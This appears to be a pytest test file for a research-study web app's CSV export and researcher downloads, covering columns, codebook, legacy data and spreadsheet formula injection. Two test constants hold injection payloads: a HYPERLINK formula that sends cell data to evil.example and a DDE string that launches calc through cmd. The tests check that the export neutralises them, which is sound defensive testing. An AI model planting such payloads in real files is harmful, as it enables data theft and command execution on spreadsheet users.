"""`flask export` and the researcher downloads: columns, values, codebook, robustness to unknown task types and to
times stored before the server checked them, and text that a spreadsheet would run as a formula."""

import csv
import io
import math
from datetime import datetime

import pytest

from server import identifiers
from server.db import db
from server.models import Trial
from server.studies.definitions import get_study
from tests.helpers import DEMOGRAPHICS, PROLIFIC, answer_all, answer_surveys, enter, trial_body

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture
def finished(client):
    token = enter(client, **PROLIFIC)
    answer_surveys(
        client, token, demographics={"gender": "male", "age": 51, "education": "high_school", "nationality": "Kenyan"}
    )
    client.put(
        f"/api/sessions/{token}/environment",
        json={"screen_width": 1920, "screen_height": 1080, "window_width": 1400, "window_height": 900},
    )
    state = answer_all(client, token, lambda item: 25.0)
    client.post(f"/api/sessions/{token}/complete")
    return state


def test_export_writes_tidy_trials_with_correct_values(runner, finished, tmp_path):
    result = runner.invoke(args=["export", "study3", "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    trials = read_csv(tmp_path / "trials.csv")
    assert len(trials) == 30
    required = [
        "participant_id",
        "participant_code",
        "trial_index",
        "practice",
        "chart_type",
        "stimulus_id",
        "short_height",
        "tall_height",
        "true_percent",
        "response_percent",
        "abs_error",
        "log_error",
        "rt_ms",
        "created_at",
    ]
    assert all(col in trials[0] for col in required)
    for row, item in zip(trials, finished["plan"]):
        assert row["stimulus_id"] == item["stimulus_id"] and int(row["trial_index"]) == item["index"]
        assert row["participant_code"] == identifiers.pid_hmac(PROLIFIC["PROLIFIC_PID"])[:16]
        assert row["practice"] == str(item["practice"])
        short, tall = int(row["short_height"]), int(row["tall_height"])
        assert row["stimulus_id"] == f"{'p' if item['practice'] else 't'}{row['chart_type']}-s{short}-t{tall}-v0"
        assert float(row["true_percent"]) == pytest.approx(100 * short / tall)
        assert float(row["response_percent"]) == 25.0
        assert float(row["abs_error"]) == pytest.approx(abs(25.0 - 100 * short / tall))
        assert float(row["log_error"]) == pytest.approx(math.log2(abs(25.0 - 100 * short / tall) + 0.125))
        assert row["rt_ms"] == "1234"
        assert row["created_at"].endswith("+00:00")


def test_export_participants_and_codebook(runner, finished, tmp_path):
    runner.invoke(args=["export", "study3", "--out", str(tmp_path)])
    (person,) = read_csv(tmp_path / "participants.csv")
    assert person["participant_code"] == identifiers.pid_hmac(PROLIFIC["PROLIFIC_PID"])[:16]
    assert person["status"] == "completed" and "prolific_pid" not in person
    assert (person["gender"], person["age"], person["education"], person["nationality"]) == (
        "male",
        "51",
        "high_school",
        "Kenyan",
    )
    assert (person["n_trials"], person["screen_width"], person["consent_agreed"]) == ("30", "1920", "True")
    assert float(person["duration_s"]) >= 0
    codebook = read_csv(tmp_path / "codebook.csv")
    described = {(r["file"], r["column"]) for r in codebook if r["description"]}
    for name in ("participants.csv", "trials.csv"):
        header = next(csv.reader(open(tmp_path / name)))
        assert {(name, c) for c in header} <= described, name


def test_export_survives_a_task_type_the_code_no_longer_knows(runner, finished, tmp_path):
    study = get_study("study3")
    study.task_type = "retired-task"
    db.session.commit()
    result = runner.invoke(args=["export", "study3", "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    trials = read_csv(tmp_path / "trials.csv")
    assert len(trials) == 30 and '"percent": 25.0' in trials[0]["response"]


def test_export_unknown_study_is_a_clear_error(runner, tmp_path):
    result = runner.invoke(args=["export", "nope", "--out", str(tmp_path)])
    assert result.exit_code != 0 and "no study named 'nope'" in result.output


def test_researcher_download_matches_cli_export(client, auth, runner, finished, tmp_path):
    assert client.get("/researcher/studies/study3/trials.csv").status_code == 302  # logged out
    auth.login()
    download = client.get("/researcher/studies/study3/trials.csv")
    assert download.status_code == 200 and download.mimetype == "text/csv"
    runner.invoke(args=["export", "study3", "--out", str(tmp_path)])
    assert download.get_data(as_text=True) == (tmp_path / "trials.csv").read_text()
    assert list(csv.DictReader(io.StringIO(download.get_data(as_text=True))))[0]["participant_id"]
    assert client.get("/researcher/studies/study3/secrets.csv").status_code == 404


def test_consent_time_is_exported(client, runner, finished, tmp_path):
    assert client.get("/study/study3").status_code == 303  # a second participant, who has not consented (yet)
    assert runner.invoke(args=["export", "study3", "--out", str(tmp_path)]).exit_code == 0
    done, waiting = read_csv(tmp_path / "participants.csv")
    started, consented, completed = (
        datetime.fromisoformat(done[c]) for c in ("started_at", "consented_at", "completed_at")
    )
    assert started <= consented <= completed and done["consented_at"].endswith("+00:00")
    assert waiting["consented_at"] == "" and waiting["started_at"]
    codebook = {r["column"]: r for r in read_csv(tmp_path / "codebook.csv") if r["file"] == "participants.csv"}
    assert codebook["consented_at"]["type"] == "datetime" and "consent" in codebook["consented_at"]["description"]


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def formulas(text):
    """The cells of a CSV text that a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not is_number(cell)
    ]


# #21 row 10: the User-Agent is the participant's to choose, and so are the text answers.
FORMULA_AGENT = '=HYPERLINK("http://evil.example/?d="&A2,"Click for details")'
FORMULA_NATIONALITY = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_text_reaches_export_and_downloads_as_text(client, auth, runner, tmp_path):
    entry = client.get("/study/study3", headers={"User-Agent": FORMULA_AGENT})
    token = entry.headers["Location"].rsplit("/", 1)[1]
    answer_surveys(client, token, demographics={**DEMOGRAPHICS, "nationality": FORMULA_NATIONALITY})
    for item in client.get(f"/api/sessions/{token}").get_json()["plan"]:
        _, short, tall, _ = item["stimulus_id"].split("-")  # answered exactly: log_error is log2(1/8) = -3
        exact = 100 * int(short[1:]) / int(tall[1:])
        assert client.post(f"/api/sessions/{token}/trials", json=trial_body(item, exact)).status_code == 201
    result = runner.invoke(args=["export", "study3", "--out", str(tmp_path), "--include-identifiers"])
    assert result.exit_code == 0, result.output

    (person,) = read_csv(tmp_path / "participants.csv")
    assert person["user_agent"] == "Other / Other" and person["nationality"] == "'" + FORMULA_NATIONALITY
    (ids,) = read_csv(tmp_path / "identifiers.csv")  # the full User-Agent, as text
    assert ids["user_agent"] == "'" + FORMULA_AGENT
    trials = read_csv(tmp_path / "trials.csv")
    assert {(t["abs_error"], t["log_error"]) for t in trials} == {("0.0", "-3.0")}  # numbers stay numbers
    auth.login()
    for name in ("participants.csv", "trials.csv", "identifiers.csv"):
        text = (tmp_path / name).read_text(encoding="utf-8")
        assert formulas(text) == [], name
        if name != "identifiers.csv":
            assert client.get(f"/researcher/studies/study3/{name}").get_data(as_text=True) == text, name
    assert formulas((tmp_path / "codebook.csv").read_text(encoding="utf-8")) == []
    codebook = {r["column"]: r["description"] for r in read_csv(tmp_path / "codebook.csv")}
    assert "leading '" in codebook["user_agent"] and "leading '" in codebook["nationality"]
    assert "leading '" not in codebook["log_error"] and "leading '" not in codebook["started_at"]


def test_free_text_answers_reach_the_export_as_text(client, runner, tmp_path):
    token = enter(client, "hive-distinction")
    for name, answers in (
        ("consent", {"agreed": True}),
        (
            "hive_tradeoff",
            {
                "low_risk": 60,
                "medium_risk": 70,
                "high_risk": 90,
                "reason": "-2+3, since a wrong answer costs more there",
            },
        ),
        ("hive_feedback", {"feedback": "-3.5"}),
    ):
        response = client.put(f"/api/sessions/{token}/surveys/{name}", json={"answers": answers})
        assert response.status_code == 200, response.get_json()
    assert runner.invoke(args=["export", "hive-distinction", "--out", str(tmp_path)]).exit_code == 0
    (person,) = read_csv(tmp_path / "participants.csv")
    assert person["hive_tradeoff_reason"] == "'-2+3, since a wrong answer costs more there"
    assert (person["hive_feedback_feedback"], person["hive_tradeoff_low_risk"]) == ("-3.5", "60")  # numbers as given


def test_json_cells_of_an_unknown_task_type_keep_their_text(runner, finished, tmp_path):
    """A JSON cell starts with {, [ or " unless it is a number, true, false or null: none is a formula."""
    trial = db.session.scalar(db.select(Trial).filter_by(trial_index=0))
    trial.response, trial.score = {"comment": "=1+1"}, -3.5
    get_study("study3").task_type = "retired-task"
    db.session.commit()
    assert runner.invoke(args=["export", "study3", "--out", str(tmp_path)]).exit_code == 0
    first = read_csv(tmp_path / "trials.csv")[0]
    assert (first["response"], first["score"]) == ('{"comment": "=1+1"}', "-3.5")


@pytest.mark.parametrize(
    "given, sqlite, postgresql",
    [
        ("0001-01-01T00:00:00+14:00", "0001-01-01T00:00:00+14:00", "0001-12-31 10:00:00+00 BC"),
        ("9999-12-31T23:59:59-14:00", "9999-12-31T23:59:59-14:00", "10000-01-01 13:59:59+00"),
    ],
)
def test_a_client_time_outside_python_datetimes_is_exported_as_stored(
    client, auth, runner, finished, tmp_path, given, sqlite, postgresql
):
    """#21 row 9: the API took such times before it checked them, and deployments hold them. Stored as the API
    stored them: PostgreSQL keeps the instant (in UTC, BC or year 10000: psycopg cannot load it), SQLite the text."""
    db.session.execute(db.text("UPDATE trials SET client_time = :t WHERE trial_index = 0"), {"t": given})
    db.session.commit()
    result = runner.invoke(args=["export", "study3", "--out", str(tmp_path)])
    assert result.exit_code == 0, result.output
    trials = read_csv(tmp_path / "trials.csv")
    stored = {"sqlite": sqlite, "postgresql": postgresql}[db.session.get_bind().dialect.name]
    assert trials[0]["client_time"] == stored and trials[1]["client_time"] == "2026-11-22T12:00:00+00:00"
    auth.login()
    download = client.get("/researcher/studies/study3/trials.csv")
    assert download.status_code == 200 and download.get_data(as_text=True) == (tmp_path / "trials.csv").read_text()
    person = trials[0]["participant_id"]
    assert client.get(f"/researcher/studies/study3/participants/{person}").status_code == 200
